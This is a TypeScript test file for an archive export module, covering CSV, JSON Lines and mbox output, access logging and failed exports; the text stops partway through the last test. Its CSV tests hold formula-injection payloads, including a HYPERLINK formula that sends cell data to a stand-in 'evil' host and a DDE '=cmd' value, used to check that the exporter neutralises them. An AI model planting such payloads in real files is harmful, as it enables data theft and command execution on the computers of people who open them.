import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import type { Readable } from 'node:stream';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RecordingAccessLog } from '../../test/support/access-log.ts';
import { archiveEntry, openArchiveDatabase } from '../../test/support/archive.ts';
import { openTestDatabase, type TestDatabase } from '../../test/support/database.ts';
import { principalFor } from '../../test/support/fake-auth.ts';
import { silentLogger } from '../log.ts';
import { createAccessLogStore, type AccessLogStore } from './access-log.ts';
import { MAX_LOGGED_MESSAGE_IDS, type AccessLog } from './access-log.types.ts';
import { ensureArchivePartitions } from './archive-partitions.ts';
import {
  addrSpec,
  asctime,
  CSV_HEAD,
  csvCell,
  csvRecord,
  encodedWords,
  fold,
  headerField,
  EXPORT_BATCH_BYTES,
  EXPORT_CHUNK_BYTES,
  EXPORT_FIELDS,
  exportAheadRows,
  exportBatchBytes,
  exportBatchRows,
  failInterruptedExports,
  sealUnloggedExportEnds,
  getExport,
  jsonlLine,
  listExports,
  mboxMessage,
  mboxrdQuote,
  rfc5322Date,
  startExport,
  walkArchive,
  type ExportFilters,
  type ExportFormat,
} from './archive-export.ts';
import type { ArchiveEntry } from './archive-record.ts';
import type { ArchiveRecord, ArchivedMessage } from './archive-search.ts';
import { SearchIndexer } from './search-indexer.ts';

const message = (m: Partial<ArchivedMessage> = {}): ArchivedMessage => ({
  id: 'm-1',
  ts: new Date('2024-03-01T00:00:03.250Z'),
  from: 'alice@example.org/laptop',
  to: 'bob@example.org',
  type: 'chat',
  body: 'Hello',
  verdict: 'allow',
  matches: [],
  direction: 'internal',
  policyVersion: 2,
  thread: null,
  ...m,
});
const execFileAsync = promisify(execFile);

const record = (m: Partial<ArchivedMessage> = {}): ArchiveRecord => ({
  message: message(m),
  key: { ts: '2024-03-01T00:00:03.250000Z', id: '1' },
  chain: { chain: 'node-a', chainSeq: 7, hash: 'ab'.repeat(32) },
});

// ---------------------------------------------------------------------------------------------
// Test-side readers of the formats: what an eDiscovery tool would do with the file.

/** RFC 4180 parser: quoted fields with doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    if (text[i] !== '"') throw new Error(`unquoted field at ${i}`);
    let cell = '';
    i++;
    for (;;) {
      const q = text.indexOf('"', i);
      if (q < 0) throw new Error('unterminated quote');
      cell += text.slice(i, q);
      if (text[q + 1] === '"') {
        cell += '"';
        i = q + 2;
        continue;
      }
      i = q + 1;
      break;
    }
    row.push(cell);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else throw new Error(`bad separator at ${i}: ${JSON.stringify(text.slice(i, i + 5))}`);
  }
  return rows;
}

interface MailMessage {
  readonly fromLine: string;
  readonly headers: Map<string, string>;
  readonly body: string;
}

/** RFC 2047 B encoded-words → text: each run of adjacent words decodes as one (RFC 2047 §6.2). */
function decodeWords(value: string): string {
  return value.replace(/=\?UTF-8\?B\?[A-Za-z0-9+/=]*\?=(\s+=\?UTF-8\?B\?[A-Za-z0-9+/=]*\?=)*/g, (run) =>
    Buffer.concat([...run.matchAll(/=\?UTF-8\?B\?([A-Za-z0-9+/=]*)\?=/g)].map((m) => Buffer.from(m[1] ?? '', 'base64'))).toString('utf8'),
  );
}

/** Splits an mboxrd file into messages, unfolds and decodes headers, decodes the base64 body. */
function parseMbox(text: string): MailMessage[] {
  const out: MailMessage[] = [];
  for (const chunk of text.split(/^(?=From )/m)) {
    if (chunk === '') continue;
    expect(chunk.endsWith('\n\n')).toBe(true);
    const nl = chunk.indexOf('\n');
    const fromLine = chunk.slice(0, nl);
    // mboxrd: one '>' less on every >From line.
    const msg = chunk.slice(nl + 1, -1).replace(/^>(>*From )/gm, '$1');
    const split = msg.indexOf('\n\n');
    const headers = new Map<string, string>();
    for (const line of msg.slice(0, split).replace(/\n /g, ' ').split('\n')) {
      const colon = line.indexOf(':');
      headers.set(line.slice(0, colon).toLowerCase(), decodeWords(line.slice(colon + 1).trim()));
    }
    const b64 = msg.slice(split + 2).replace(/\n/g, '');
    out.push({ fromLine, headers, body: Buffer.from(b64, 'base64').toString('utf8') });
  }
  return out;
}

describe('CSV', () => {
  it.each([
    ['plain', '"plain"'],
    ['', '""'],
    [null, '""'],
    [42, '"42"'],
    ['say "hi", then go', '"say ""hi"", then go"'],
    ['two\r\nlines\nhere', '"two\r\nlines\nhere"'],
    ['你好，世界', '"你好，世界"'],
    // Formula injection: neutralised with a leading apostrophe.
    ['=1+1', '"\'=1+1"'],
    ['=HYPERLINK("http://evil/?"&A1,"x")', '"\'=HYPERLINK(""http://evil/?""&A1,""x"")"'],
    ['+33 1 23', '"\'+33 1 23"'],
    ['-2+3', '"\'-2+3"'],
    ['@SUM(A1:A9)', '"\'@SUM(A1:A9)"'],
    ['\t=cmd', '"\'\t=cmd"'],
    ['\r=cmd', '"\'\r=cmd"'],
    ['a=b', '"a=b"'],
    [[{ ruleId: 'r1' }], '"[{""ruleId"":""r1""}]"'],
  ])('quotes %j as %s', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('ends every record with CRLF and starts the file with a BOM and the header row', () => {
    expect(csvRecord(['a', 'b'])).toBe('"a","b"\r\n');
    expect(CSV_HEAD.startsWith('\uFEFF"id","ts","from","to"')).toBe(true);
    expect(parseCsv(CSV_HEAD.slice(1))).toEqual([[...EXPORT_FIELDS]]);
  });
});

describe('JSON Lines', () => {
  it('writes one line per message with every field, newlines escaped', () => {
    const line = jsonlLine(record({ body: '第一行\n第二行', matches: [{ ruleId: 'r', ruleName: 'n', action: 'flag', severity: 'low', start: 0, end: 1, match: '第' }] }));
    expect(line.endsWith('\n')).toBe(true);
    expect(line.indexOf('\n')).toBe(line.length - 1);
    expect(JSON.parse(line)).toEqual({
      id: 'm-1', ts: '2024-03-01T00:00:03.250Z', from: 'alice@example.org/laptop', to: 'bob@example.org', type: 'chat',
      direction: 'internal', verdict: 'allow', matches: [{ ruleId: 'r', ruleName: 'n', action: 'flag', severity: 'low', start: 0, end: 1, match: '第' }],
      body: '第一行\n第二行', thread: null, policyVersion: 2, chain: 'node-a', chainSeq: 7, hash: 'ab'.repeat(32),
    });
  });
});

describe('mbox', () => {
  it.each([
    ['2024-03-01T00:00:03Z', 'Fri, 01 Mar 2024 00:00:03 +0000', 'Fri Mar  1 00:00:03 2024'],
    ['2023-12-31T23:59:59.999Z', 'Sun, 31 Dec 2023 23:59:59 +0000', 'Sun Dec 31 23:59:59 2023'],
  ])('dates %s as RFC 5322 and asctime', (iso, mail, c) => {
    expect(rfc5322Date(new Date(iso))).toBe(mail);
    expect(asctime(new Date(iso))).toBe(c);
  });

  it.each([
    ['From here', '>From here'],
    ['>From here', '>>From here'],
    ['>>>From x', '>>>>From x'],
    ['Fromage', 'Fromage'],
    ['From: header', 'From: header'],
    ['a\nFrom b\n>From c', 'a\n>From b\n>>From c'],
    [' From indented', ' From indented'],
  ])('mboxrd-quotes %j', (text, quoted) => {
    expect(mboxrdQuote(text)).toBe(quoted);
  });

  it('encodes header text as RFC 2047 words of at most 75 characters, never splitting a character', () => {
    const text = '关于机密项目的会议😀'.repeat(5);
    const encoded = encodedWords(text);
    const words = encoded.split(' ');
    expect(words.length).toBeGreaterThan(1);
    for (const w of words) {
      expect(w.length).toBeLessThanOrEqual(75);
      const bytes = Buffer.from(/^=\?UTF-8\?B\?(.*)\?=$/.exec(w)?.[1] ?? '', 'base64');
      expect(bytes.toString('utf8')).not.toContain('\uFFFD');
    }
    expect(decodeWords(encoded)).toBe(text);
  });

  it.each([
    ['Subject', 'short', 'Subject: short'],
    ['Subject', 'word '.repeat(20).trim(), `Subject: ${'word '.repeat(14).trim()}\n ${'word '.repeat(6).trim()}`],
    ['Subject', '你好', 'Subject: =?UTF-8?B?5L2g5aW9?='],
    ['Subject', 'looks =?like?= a word', 'Subject: =?UTF-8?B?bG9va3MgPT9saWtlPz0gYSB3b3Jk?='],
  ])('writes header %s %j folded or encoded', (name, value, line) => {
    expect(headerField(name, value)).toBe(line);
  });

  it('folds at spaces only, keeping lines within 78 characters where it can', () => {
    const folded = fold(`X-Long: ${'abcdefghij '.repeat(12).trim()}`);
    expect(folded.split('\n').every((l) => l.length <= 78)).toBe(true);
    expect(folded.replace(/\n /g, ' ')).toBe(`X-Long: ${'abcdefghij '.repeat(12).trim()}`);
  });

  it.each([
    ['alice@example.org', 'alice@example.org'],
    ['张三@localhost', `b64.${Buffer.from('张三').toString('base64url')}@localhost`],
    ['münchen@bücher.example/手机', `b64.${Buffer.from('münchen').toString('base64url')}@xn--bcher-kva.example`],
    [`${'x'.repeat(64)}@example.org`, `${'x'.repeat(64)}@example.org`],
    // Too long for RFC 5321's 64 octets, even in base64: a digest.
    [`${'x'.repeat(65)}@example.org`, `sha256.${createHash('sha256').update('x'.repeat(65)).digest('hex').slice(0, 40)}@example.org`],
    ['example.org', 'postmaster@example.org'],
  ])('addresses %s as the ASCII addr-spec %s', (jid, addr) => {
    expect(addrSpec(jid)).toBe(addr);
    expect(/^[\x21-\x7e]+$/.test(addrSpec(jid))).toBe(true);
  });

  it('writes mbox messages that Python\'s email and mailbox modules read without a defect: non-ASCII JIDs, a 1000-character resource, quotes', async () => {
    const cases = [
      { from: '张三@localhost/手机', to: '李四@localhost', body: '明天的会议取消了\n改到周五' },
      { from: `alice@example.org/${'r'.repeat(1000)}`, to: 'bob@example.org', body: 'long resource' },
      { from: `${'长'.repeat(300)}@localhost`, to: 'münchen@bücher.example', body: 'long localpart' },
      { from: 'carol@example.org/res "q" \\ x', to: 'example.org', body: 'From the server\n>From quoted' },
    ];
    const text = cases.map((c, i) => mboxMessage(record({ id: `py-${i}`, from: c.from, to: c.to, body: c.body }), 'bücher.example')).join('');
    expect(/^[\x00-\x7f]*$/.test(text)).toBe(true);
    const dir = await mkdtemp(path.join(os.tmpdir(), 'warden-mbox-'));
    try {
      const file = path.join(dir, 'export.mbox');
      await writeFile(file, text);
      const script = [
        'import email, email.policy, json, mailbox, sys',
        'box = mailbox.mbox(sys.argv[1], create=False)',
        'out = []',
        'for key in box.keys():',
        '    raw = box.get_bytes(key)',
        '    msg = email.message_from_bytes(raw, policy=email.policy.default)',
        '    defects = [type(d).__name__ for d in msg.defects]',
        '    for name in ("From", "To", "Subject", "X-Warden-From", "X-Warden-To", "Message-ID"):',
        '        defects += [name + ":" + type(d).__name__ for d in msg[name].defects]',
        '    addrs = {n: [[a.display_name, a.addr_spec] for a in msg[n].addresses] for n in ("From", "To")}',
        '    out.append({"unixfrom": box[key].get_from(), "defects": defects, "addrs": addrs,',
        '                "xfrom": str(msg["X-Warden-From"]), "xto": str(msg["X-Warden-To"]), "subject": str(msg["Subject"]),',
        '                "body": msg.get_content().replace("\\r\\n", "\\n"), "longest": max(len(l) for l in raw.split(b"\\n"))})',
        'print(json.dumps(out))',
      ].join('\n');
      const { stdout } = await execFileAsync('/usr/bin/python3', ['-c', script, file]);
      const parsed = JSON.parse(stdout) as { unixfrom: string; defects: string[]; addrs: Record<'From' | 'To', [string, string][]>; xfrom: string; xto: string; subject: string; body: string; longest: number }[];
      expect(parsed).toHaveLength(cases.length);
      parsed.forEach((m, i) => {
        const c = cases[i]!;
        expect(m.defects).toEqual([]);
        expect(m.longest).toBeLessThanOrEqual(78);
        // The From_ line names the sender (RFC 4155), by the same address as the From header.
        expect(m.unixfrom.startsWith(`${addrSpec(c.from)} `)).toBe(true);
        for (const [header, jid] of [['From', c.from], ['To', c.to]] as const) {
          const [[name, addr] = ['', '']] = m.addrs[header];
          expect(addr).toBe(addrSpec(jid));
          // The JID as display name, or as much of it as one encoded-word holds, ending with "…".
          if (jid === addr) expect(name).toBe('');
          else if (name !== jid) expect(name.endsWith('…') && jid.startsWith(name.slice(0, -1)) && name.length > 10).toBe(true);
        }
        expect([m.xfrom, m.xto]).toEqual([c.from, c.to]);
        expect(m.body).toBe(c.body);
      });
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('writes an RFC 5322 message whose Chinese body and headers decode exactly', () => {
    const body = '明天的炸弹演习取消了\nFrom now on: 改到周五';
    const text = mboxMessage(
      record({
        id: 'id with spaces',
        from: 'alice@example.org/手机',
        body,
        verdict: 'hold',
        thread: 't1',
        matches: [{ ruleId: 'r1', ruleName: 'weapons', action: 'hold', severity: 'critical', start: 3, end: 5, match: '炸弹' }],
      }),
      'example.org',
    );
    expect(text.startsWith('From alice@example.org Fri Mar  1 00:00:03 2024\n')).toBe(true);
    // Every line of the message is 7-bit: the UTF-8 lives in base64 and encoded-words.
    expect(/^[\x00-\x7f]*$/.test(text)).toBe(true);
    for (const line of text.split('\n')) expect(line.length).toBeLessThanOrEqual(78);
    const [m] = parseMbox(text);
    expect(m?.headers.get('from')).toBe('alice@example.org/手机 <alice@example.org>');
    expect(m?.headers.get('to')).toBe('<bob@example.org>');
    expect(m?.headers.get('date')).toBe('Fri, 01 Mar 2024 00:00:03 +0000');
    expect(m?.headers.get('message-id')).toBe(`<b64.${Buffer.from('id with spaces').toString('base64url')}@example.org>`);
    expect(m?.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(m?.headers.get('content-transfer-encoding')).toBe('base64');
    expect(m?.headers.get('x-warden-stanza-id')).toBe('id with spaces');
    expect(m?.headers.get('x-warden-verdict')).toBe('hold');
    expect(m?.headers.get('x-warden-thread')).toBe('t1');
    expect(JSON.parse(m?.headers.get('x-warden-matches') ?? '')).toEqual([expect.objectContaining({ match: '炸弹' })]);
    expect(m?.headers.get('x-warden-chain')).toBe(`node-a 7 ${'ab'.repeat(32)}`);
    // RFC 2045 §6.8: line breaks are CRLF inside the base64 text.
    expect(m?.body).toBe(body.replace(/\n/g, '\r\n'));
  });
});

// ---------------------------------------------------------------------------------------------
// The walk and one export run, on a real database

const BASE = Date.parse('2024-03-01T00:00:00Z');
const at = (s: number) => new Date(BASE + s * 1000);
const A = 'alice@example.org';
const B = 'bob@example.org';
const C = 'carol@example.org';

const entry = (i: number, fromBare: string, toBare: string, body: string | null, extra: Partial<ArchiveEntry> = {}): ArchiveEntry =>
  archiveEntry({ ts: at(i), stanzaId: `m-${i}`, fromBare, toBare, body, ...extra });

/** The seal an end entry carries over an export's ids, as docs/api.md states it: SHA-256 of each id and a NUL. */
const idsDigest = (ids: readonly string[]) => createHash('sha256').update(ids.map((id) => `${id}\0`).join(''), 'utf8').digest('hex');

async function readAll(stream: NodeJS.ReadableStream): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const c of stream) chunks.push(Buffer.from(c as Buffer));
  return Buffer.concat(chunks);
}

describe('export runs', () => {
  let db: TestDatabase;
  const officer = principalFor('officer', 'olivia');
  beforeAll(async () => {
    db = await openArchiveDatabase({
      chain: 'export',
      partitionsFrom: at(0),
      entries: [
        entry(1, A, B, 'Hello Bob, the quarterly report'),
        entry(2, B, A, '你好 Alice，季度报告收到了'),
        entry(3, C, A, '明天的炸弹演习取消了', { verdict: 'hold' }),
        entry(4, A, C, '=cmd|\' /C calc\'!A0'),
        entry(5, B, C, null),
        entry(6, A, B, 'quarterly numbers attached', { verdict: 'flag' }),
        entry(7, A, B, 'From the desk of Alice'),
      ],
    });
    // The trigram path reads archive_search up to the indexer's watermark: index m-1..m-5 only,
    // so a query reads both the copy and the rows past it.
    const indexer = new SearchIndexer(db.sql, silentLogger);
    await indexer.runOnce(0);
    await db.sql`UPDATE archive_search_progress SET ts = ${at(5).toISOString()}::timestamptz, id = (SELECT id FROM archive WHERE stanza_id = 'm-5')`;
    await db.sql`DELETE FROM archive_search WHERE ts > ${at(5).toISOString()}::timestamptz`;
  });
  afterAll(async () => db?.close());

  const walkIds = async (filters: ExportFilters, batch = 2) => {
    const ids: string[] = [];
    for await (const records of walkArchive(db.sql, filters, batch)) {
      expect(records.length).toBeLessThanOrEqual(batch);
      ids.push(...records.map((r) => r.message.id));
    }
    return ids;
  };

  it('walks oldest first in batches with every filter of the search', async () => {
    expect(await walkIds({})).toEqual(['m-1', 'm-2', 'm-3', 'm-4', 'm-5', 'm-6', 'm-7']);
    expect(await walkIds({}, 1)).toEqual(['m-1', 'm-2', 'm-3', 'm-4', 'm-5', 'm-6', 'm-7']);
    expect(await walkIds({ user: A })).toEqual(['m-1', 'm-2', 'm-3', 'm-4', 'm-6', 'm-7']);
    expect(await walkIds({ user: A, peer: B })).toEqual(['m-1', 'm-2', 'm-6', 'm-7']);
    expect(await walkIds({ verdict: 'hold' })).toEqual(['m-3']);
    expect(await walkIds({ since: at(2), until: at(5) })).toEqual(['m-2', 'm-3', 'm-4']);
    // Trigram query: from archive_search (m-1) and past its watermark (m-6).
    expect(await walkIds({ q: 'QUARTERLY' }, 1)).toEqual(['m-1', 'm-6']);
    expect(await walkIds({ q: 'quarterly', user: B })).toEqual(['m-1', 'm-6']);
    // Short Chinese query: no trigram, a substring test.
    expect(await walkIds({ q: '炸弹' })).toEqual(['m-3']);
  });

  it('reads the next batch ahead only as far as the batch budget allows beside the batch being sent', async () => {
    const sizes = async (aheadRows: (b: readonly ArchiveRecord[]) => number) => {
      const out: string[][] = [];
      for await (const records of walkArchive(db.sql, {}, 3, { aheadRows })) out.push(records.map((r) => r.message.id));
      return out;
    };
    expect(await sizes(() => 0)).toEqual([['m-1', 'm-2', 'm-3'], ['m-4', 'm-5', 'm-6'], ['m-7']]);
    expect(await sizes(() => 1)).toEqual([['m-1', 'm-2', 'm-3'], ['m-4'], ['m-5'], ['m-6'], ['m-7']]);
    expect(await sizes(() => 10)).toEqual([['m-1', 'm-2', 'm-3'], ['m-4', 'm-5', 'm-6'], ['m-7']]);
    // A batch's memory by the rule batches are sized by; what fits beside it.
    expect(exportBatchBytes([record({ body: '你好' }), record({ body: null })])).toBe(2 * 6 + 2 * 16 * 1024);
    const perRow = 2 * 262_144 + 16 * 1024;
    expect(exportAheadRows(0, 262_144)).toBe(exportBatchRows(262_144));
    expect(exportAheadRows(EXPORT_BATCH_BYTES - perRow, 262_144)).toBe(1);
    expect(exportAheadRows(EXPORT_BATCH_BYTES - perRow + 1, 262_144)).toBe(0);
    expect(exportAheadRows(EXPORT_BATCH_BYTES * 2, 262_144)).toBe(0);
    expect(exportAheadRows(0, 1024)).toBe(1000);
  });

  it('carries each row\'s place in its hash chain', async () => {
    const rows = await db.sql<{ stanza_id: string; chain: string; chain_seq: string; hash: Buffer }[]>`SELECT stanza_id, chain, chain_seq, hash FROM archive WHERE stanza_id = 'm-3'`;
    const batches: ArchiveRecord[][] = [];
    for await (const b of walkArchive(db.sql, { verdict: 'hold' })) batches.push(b);
    expect(batches[0]?.[0]?.chain).toEqual({ chain: rows[0]?.chain, chainSeq: Number(rows[0]?.chain_seq), hash: rows[0]?.hash.toString('hex') });
  });

  const run = (format: ExportFormat, filters: ExportFilters, accessLog: AccessLog, now?: Date) =>
    startExport({ sql: db.sql, accessLog, principal: officer, ip: '192.0.2.7', filters, format, domain: 'example.org', batchSize: 2, ...(now && { now }) });

  it('streams a file whose count, size and SHA-256 are in the manifest and the access log', async () => {
    const log = new RecordingAccessLog();
    const r = await run('jsonl', { user: A }, log, new Date('2030-01-01T00:00:00Z'));
    // Recorded before the first byte.
    expect(log.entries).toEqual([
      expect.objectContaining({ action: 'export', principal: officer, ip: '192.0.2.7', query: { user: A, until: '2030-01-01T00:00:00.000Z', format: 'jsonl' }, detail: { exportId: r.id, phase: 'start' } }),
    ]);
    expect((await getExport(db.sql, r.id))?.status).toBe('running');
    const body = await readAll(r.stream);
    // Produced is not received: the manifest waits for whoever sends the file to say it went out.
    expect((await getExport(db.sql, r.id))?.status).toBe('running');
    expect(log.entries).toHaveLength(1);
    expect(await r.finish({ delivered: true })).toBe('complete');
    expect(await r.done).toBe('complete');
    const sha256 = createHash('sha256').update(body).digest('hex');
    const lines = body.toString('utf8').trimEnd().split('\n').map((l) => JSON.parse(l) as { id: string });
    expect(lines.map((l) => l.id)).toEqual(['m-1', 'm-2', 'm-3', 'm-4', 'm-6', 'm-7']);
    expect(r.result()).toEqual({ count: 6, bytes: body.length, sha256 });
    expect(await getExport(db.sql, r.id)).toEqual({
      id: r.id, account: 'olivia', format: 'jsonl', query: { user: A, until: '2030-01-01T00:00:00.000Z' }, status: 'complete',
      count: 6, sha256, bytes: body.length, failure: null, createdAt: expect.any(Date), finishedAt: expect.any(Date),
    });
    expect(log.entries[1]).toEqual(expect.objectContaining({
      action: 'export', messageIds: ['m-1', 'm-2', 'm-3', 'm-4', 'm-6', 'm-7'], messageCount: 6,
      detail: { exportId: r.id, phase: 'complete', count: 6, sha256, bytes: body.length, idsRecorded: 6, idsSha256: idsDigest(['m-1', 'm-2', 'm-3', 'm-4', 'm-6', 'm-7']) },
    }));
  });

  it('stops at the moment it starts when no until is given', async () => {
    const r = await run('jsonl', {}, new RecordingAccessLog(), at(4));
    const body = (await readAll(r.stream)).toString('utf8');
    expect(body.trimEnd().split('\n').map((l) => (JSON.parse(l) as { id: string }).id)).toEqual(['m-1', 'm-2', 'm-3']);
    expect((await getExport(db.sql, r.id))?.query).toEqual({ until: at(4).toISOString() });
  });

  it('writes an empty but complete file for a window in the future', async () => {
    const r = await run('csv', { since: new Date('2031-01-01T00:00:00Z') }, new RecordingAccessLog(), new Date('2030-01-01T00:00:00Z'));
    const body = await readAll(r.stream);
    expect(body.toString('utf8')).toBe(CSV_HEAD);
    expect(r.result()?.count).toBe(0);
  });

  it('writes CSV a spreadsheet cannot turn into a formula', async () => {
    const r = await run('csv', { user: C }, new RecordingAccessLog());
    const text = (await readAll(r.stream)).toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parseCsv(text.slice(1));
    expect(header).toEqual([...EXPORT_FIELDS]);
    expect(rows.map((row) => row[0])).toEqual(['m-3', 'm-4', 'm-5']);
    const body = header!.indexOf('body');
    expect(rows.map((row) => row[body])).toEqual(['明天的炸弹演习取消了', '\'=cmd|\' /C calc\'!A0', '']);
  });

  it('writes an mbox whose messages decode to the archived text', async () => {
    const r = await run('eml', { user: A, peer: B }, new RecordingAccessLog());
    expect(r.formatter.contentType).toBe('application/mbox');
    const messages = parseMbox((await readAll(r.stream)).toString('utf8'));
    expect(messages.map((m) => m.headers.get('x-warden-stanza-id'))).toEqual(['m-1', 'm-2', 'm-6', 'm-7']);
    expect(messages[1]?.body).toBe('你好 Alice，季度报告收到了');
    expect(messages[3]?.body).toBe('From the desk of Alice');
    expect(messages[1]?.fromLine).toBe(`From ${B} ${asctime(at(2))}`);
  });

  it('marks a file produced in full but not delivered failed: the messages wholly sent in the manifest, every message begun in the access log', async () => {
    const log = new RecordingAccessLog();
    const r = await run('jsonl', {}, log, at(8));
    const body = await readAll(r.stream);
    expect(r.result()?.count).toBe(7);
    const lines = body.toString('utf8').split('\n');
    // The connection took the first two lines and half of the third before it closed.
    const two = Buffer.byteLength(`${lines[0]}\n${lines[1]}\n`);
    const halfThird = two + Math.floor(Buffer.byteLength(lines[2]!) / 2);
    expect(await r.finish({ delivered: false, bytes: two, maxBytes: halfThird, failure: 'disconnected' })).toBe('failed');
    // A second call changes nothing.
    expect(await r.finish({ delivered: true })).toBe('failed');
    expect(await getExport(db.sql, r.id)).toEqual(
      expect.objectContaining({ status: 'failed', failure: 'disconnected', count: 2, bytes: two, sha256: null, finishedAt: expect.any(Date) }),
    );
    expect(log.entries.map((e) => e.detail?.phase)).toEqual(['start', 'failed']);
    expect(log.entries[1]).toMatchObject({ messageIds: ['m-1', 'm-2', 'm-3'], messageCount: 3, detail: { failure: 'disconnected', count: 2, bytes: two } });
  });

  it('marks an export whose reader went away after the first chunk failed, with what was sent', async () => {
    const log = new RecordingAccessLog();
    const r = await run('csv', {}, log);
    const first = await new Promise<Buffer>((resolve) => r.stream.once('data', resolve));
    r.stream.destroy();
    // The CSV head is its own chunk: no message went out.
    expect(first.toString('utf8')).toBe(CSV_HEAD);
    expect(await r.finish({ delivered: false, bytes: first.length, maxBytes: first.length, failure: 'disconnected' })).toBe('failed');
    expect(await getExport(db.sql, r.id)).toEqual(expect.objectContaining({ status: 'failed', count: 0, bytes: first.length }));
    expect(log.entries[1]).toMatchObject({ messageIds: [], messageCount: 0 });
    expect(r.result()).toBeUndefined();
  });

  it('marks an export never read failed', async () => {
    const r = await run('jsonl', {}, new RecordingAccessLog());
    r.stream.destroy();
    expect(await r.finish({ delivered: false, bytes: 0, maxBytes: 0, failure: 'disconnected' })).toBe('failed');
    expect(await getExport(db.sql, r.id)).toEqual(expect.objectContaining({ status: 'failed', count: 0, bytes: 0 }));
  });

  it('says complete only for a file produced in full', async () => {
    const r = await run('jsonl', {}, new RecordingAccessLog());
    r.stream.destroy();
    expect(await r.finish({ delivered: true })).toBe('failed');
    expect((await getExport(db.sql, r.id))?.failure).toBe('error');
  });

  it('cuts a message larger than a chunk into chunks of at most EXPORT_CHUNK_BYTES, and batches rows by the largest body', async () => {
    const big = 'x'.repeat(EXPORT_CHUNK_BYTES * 2 + 10);
    await db.sql`UPDATE archive SET body = ${big} WHERE stanza_id = 'm-4'`;
    try {
      const r = await run('jsonl', {}, new RecordingAccessLog(), at(8));
      // As a pipe reads it (flowing mode: one chunk per 'data').
      const chunks: Buffer[] = [];
      await new Promise<void>((resolve, reject) => r.stream.on('data', (c: Buffer) => chunks.push(c)).once('end', resolve).once('error', reject));
      expect(Math.max(...chunks.map((c) => c.length))).toBeLessThanOrEqual(EXPORT_CHUNK_BYTES);
      const lines = Buffer.concat(chunks).toString('utf8').trimEnd().split('\n').map((l) => JSON.parse(l) as { id: string; body: string });
      expect(lines.map((l) => l.id)).toEqual(['m-1', 'm-2', 'm-3', 'm-4', 'm-5', 'm-6', 'm-7']);
      expect(lines[3]?.body).toBe(big);
    } finally {
      await db.sql`UPDATE archive SET body = '=cmd|'' /C calc''!A0' WHERE stanza_id = 'm-4'`;
    }
    expect(exportBatchRows(262_144)).toBe(Math.floor(EXPORT_BATCH_BYTES / (2 * 262_144 + 16_384)));
    expect(exportBatchRows(1024)).toBe(1000);
    expect(exportBatchRows(16 * 1024 * 1024)).toBe(1);
  });

  it('does not start when the access log cannot record it', async () => {
    const log = new RecordingAccessLog();
    log.fail = true;
    await expect(run('jsonl', {}, log)).rejects.toThrow(/access log unavailable/);
    const { items } = await listExports(db.sql, { limit: 1 });
    expect(items[0]?.status).toBe('failed');
  });

  it('lists manifests newest first with a cursor', async () => {
    const first = await listExports(db.sql, { limit: 2 });
    expect(first.more).toBe(true);
    const ids = first.items.map((m) => Number(m.id));
    expect(ids[0]).toBeGreaterThan(ids[1]!);
    const second = await listExports(db.sql, { limit: 2, beforeId: first.items[1]!.id });
    expect(Number(second.items[0]?.id)).toBe(ids[1]! - 1);
    expect(await getExport(db.sql, '999999')).toBeUndefined();
    expect(await getExport(db.sql, 'x')).toBeUndefined();
  });
});

// ---------------------------------------------------------------------------------------------
// Every exported message on the access log (issue #5): not only the first MAX_LOGGED_MESSAGE_IDS

describe('every message of an export is on the access log', () => {
  const N = 2500;
  const BULK = Date.parse('2024-06-01T00:00:00Z');
  const officer = principalFor('officer', 'olivia');
  let db: TestDatabase;
  let store: AccessLogStore;
  beforeAll(async () => {
    db = await openTestDatabase();
    await ensureArchivePartitions(db.sql, new Date(BULK));
    // bulk-1 … bulk-2500, a second apart; hashes are placeholders (the archive chain is not the point).
    await db.sql`
      INSERT INTO archive (ts, chain, chain_seq, stanza_id, from_jid, to_jid, from_bare, to_bare, type, body, raw, direction, verdict, matches, prev_hash, hash)
      SELECT ${new Date(BULK).toISOString()}::timestamptz + i * interval '1 second', 'bulk', i, 'bulk-' || i,
             'u' || (i % 7) || '@bulk.test/r', 'u' || ((i + 1) % 7) || '@bulk.test', 'u' || (i % 7) || '@bulk.test', 'u' || ((i + 1) % 7) || '@bulk.test',
             'chat', 'message ' || i || ' ' || repeat('lorem ipsum ', 20), '<message/>', 'internal', 'allow', '[]'::jsonb, '\\x00'::bytea, sha256(int4send(i))
      FROM generate_series(1, ${N}::int) AS i`;
    store = createAccessLogStore(db.sql);
  }, 60_000);
  afterAll(async () => db?.close());

  const bulkIds = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, i) => `bulk-${from + i}`);
  const since = new Date(BULK);
  const start = (accessLog: AccessLog = store, batchSize = 100) =>
    startExport({ sql: db.sql, accessLog, principal: officer, ip: '192.0.2.7', filters: { since }, format: 'jsonl', domain: 'example.org', batchSize, now: new Date(BULK + (N + 1) * 1000) });
  const whoSaw = async (id: string) => (await store.list({ limit: 100, messageId: id })).map((e) => ({ seq: e.seq, phase: e.detail.phase, exportId: e.detail.exportId }));
  const recordedRows = async (exportId: string) =>
    (await db.sql<{ n: number }[]>`SELECT count(*)::int AS n FROM export_messages WHERE export_id = ${exportId}::bigint`)[0]!.n;
  /** As the table's owner can: switch the append-only triggers off, tamper, switch them on. */
  const asOwner = async (tamper: () => Promise<unknown>) => {
    await db.sql`ALTER TABLE export_messages DISABLE TRIGGER USER`;
    try {
      await tamper();
    } finally {
      await db.sql`ALTER TABLE export_messages ENABLE TRIGGER USER`;
    }
  };

  let complete: { id: string; endSeq: string };
  /** Once a destroyed stream's producer has stopped (no batch is being recorded any more). */
  const closed = (stream: Readable) => (stream.closed ? Promise.resolve() : new Promise<void>((resolve) => stream.once('close', () => resolve())));

  it('finds a 2500-message export by its 2400th message, through the start entry while it runs and the end entry once it is over', async () => {
    const r = await start();
    const body = await readAll(r.stream);
    expect(body.toString('utf8').trimEnd().split('\n')).toHaveLength(N);
    // Produced, not yet finished: the start entry stands for the export.
